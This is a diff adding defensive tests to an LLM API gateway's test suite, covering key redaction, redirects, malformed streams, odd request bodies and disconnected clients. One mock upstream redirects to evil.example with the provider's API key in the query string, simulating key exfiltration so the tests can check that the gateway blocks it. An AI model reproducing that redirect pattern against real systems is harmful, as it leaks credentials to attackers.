@@ -273,3 +273,100 @@ test('admin cookie: a malformed one is 401, the cookie never holds the token (ca
     await gw.stop();
   }
 });
+
+// Found by a probe of the fixes above: more of the same kinds.
+test('probe findings: keys in redirects and 200 bodies, a held-open stream, odd SSE framing, JSON to a stream request', async () => {
+  const KEY = 'sk-probe-key-0123456789';
+  let mode = 'redirect';
+  const up = await rawUpstream((req, body, res) => {
+    const key = req.headers.authorization;
+    if (mode === 'redirect') {
+      res.writeHead(302, { location: `http://evil.example/?k=${encodeURIComponent(key)}` });
+      return res.end();
+    }
+    if (mode === 'echo-200') return sendJson(res, 200, { ...completion({ prompt_tokens: 1, completion_tokens: 1 }), note: `used ${key}` });
+    res.writeHead(200, { 'content-type': mode === 'json-for-stream' ? 'application/json' : 'text/event-stream' });
+    if (mode === 'json-for-stream') return res.end(JSON.stringify(completion({ prompt_tokens: 4, completion_tokens: 6 })));
+    const sep = mode === 'cr' ? '\r\r' : '\n\n';
+    res.write(`data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', choices: [{ index: 0, delta: { content: `key ${key}` }, finish_reason: 'stop' }] })}${sep}`);
+    res.write(`data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', choices: [], usage: { prompt_tokens: 5, completion_tokens: 10 } })}${sep}`);
+    if (mode === 'held-open') return res.write('data: [DONE]\n\n');  // and never ends the body
+    if (mode === 'unterminated') return res.end('data: [DONE]\n');
+    return res.end(`data: [DONE]${sep}`);
+  });
+  const gw = await startTestGateway({ extraProviders: [provider('p', up.url, { api_key: KEY, timeout_ms: 3000, models: ['m'] })],
+    catalog: { c: { provider_id: 'p', package_type: 'credits', total_credits: 1e9, used_credits: 0, currency: 'USD', models: ['*'] } },
+    routing: { unhealthy_after_failures: 1000 } });
+  const url = `${gw.url}/v1/chat/completions`;
+  const used = async () => (await pkgOf(gw, 'c')).used;
+  try {
+    const r = await postJson(url, chat('m'));
+    assert.equal(r.status, 503, 'the only provider redirected: nothing else to try');
+    const metrics = await (await fetch(`${gw.url}/metrics`)).text();
+    assert.match(metrics, /quotagate_failovers_total\{provider="p",reason="HTTP 302 redirect"\} 1/);
+    mode = 'echo-200';
+    const echoed = await postJson(url, chat('m'));
+    assert.match(echoed.text, /used Bearer \[redacted\]/);
+    for (const m of ['held-open', 'unterminated', 'cr']) {
+      mode = m;
+      const before = await used();
+      const t0 = Date.now();
+      const s = await postJson(url, chat('m', { stream: true }));
+      assert.equal(s.status, 200, m);
+      assert.match(s.text, /data: \[DONE\]/, `${m}: the client gets its terminator`);
+      assert.doesNotMatch(s.text, /interrupted|error/, m);
+      assert.match(s.text, /key Bearer \[redacted\]/, `${m}: a key in a streamed 200 is redacted`);
+      assert.ok(Date.now() - t0 < 2500, `${m}: not held until the upstream times out (${Date.now() - t0} ms)`);
+      assert.equal(await used() - before, 15, `${m}: usage counted`);
+    }
+    mode = 'json-for-stream';
+    const before = await used();
+    const j = await postJson(url, chat('m', { stream: true }));
+    assert.match(j.text, /"content":"hi"/);
+    assert.match(j.text, /data: \[DONE\]/);
+    assert.equal(await used() - before, 10, 'usage of a JSON answer to a streamed request');
+  } finally {
+    await gw.stop();
+    await up.close();
+  }
+  const everything = gw.logs.text();
+  assert.ok(!everything.includes(KEY), 'no key in the logs');
+});
+
+test('probe findings: upper-case paths, UTF-16 bodies, a surrogate cut in a header, a client gone before the head', async () => {
+  let hold = 0;
+  const up = await rawUpstream((req, body, res) => setTimeout(() => sendJson(res, 200, completion({ prompt_tokens: 1, completion_tokens: 2 })), hold));
+  const id = `${'x'.repeat(511)}😀`;
+  const gw = await startTestGateway({ extraProviders: [provider('u', up.url)], catalog: { [id]: { provider_id: 'u', package_type: 'daily', limit_per_day: 100, models: ['*'] } } });
+  const raw = (p, headers, body) => new Promise((resolve, reject) => {
+    const req = http.request({ host: '127.0.0.1', port: gw.port, method: 'POST', path: p, headers }, (res) => {
+      let text = '';
+      res.on('data', (d) => { text += d; });
+      res.on('end', () => resolve({ status: res.statusCode, text }));
+    });
+    req.on('error', reject);
+    req.end(body);
+  });
+  try {
+    for (const p of ['/V1/chat/completions', '/V1/MESSAGES', '/API/route']) {
+      assert.equal((await raw(p, { 'content-type': 'text/plain' }, JSON.stringify(chat('m')))).status, 415, p);
+    }
+    const deep = Buffer.from(`{"s":"\\\\\\"","model":"m","messages":${'['.repeat(100000)}${']'.repeat(100000)}}`, 'utf16le');
+    const d = await raw('/v1/chat/completions', { 'content-type': 'application/json; charset=utf-16le' }, deep);
+    assert.equal(d.status, 400, d.text);
+    const ok = await postJson(`${gw.url}/v1/chat/completions`, chat('m'));
+    assert.equal(ok.status, 200);
+    assert.ok(ok.headers.get('x-quotagate-package').endsWith('%F0%9F%98%80'));
+    // The client leaves 100 ms in; the upstream answers at 300 ms: the answer is counted.
+    hold = 300;
+    const ac = new AbortController();
+    const gone = fetch(`${gw.url}/v1/chat/completions`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(chat('m')), signal: ac.signal }).catch(() => null);
+    setTimeout(() => ac.abort(), 100);
+    await gone;
+    for (let i = 0; i < 50 && (await pkgOf(gw, id)).used < 2; i++) await new Promise((resolve) => setTimeout(resolve, 20));
+    assert.equal((await pkgOf(gw, id)).used, 2, 'the answer the upstream completed after the client left is counted');
+  } finally {
+    await gw.stop();
+    await up.close();
+  }
+});
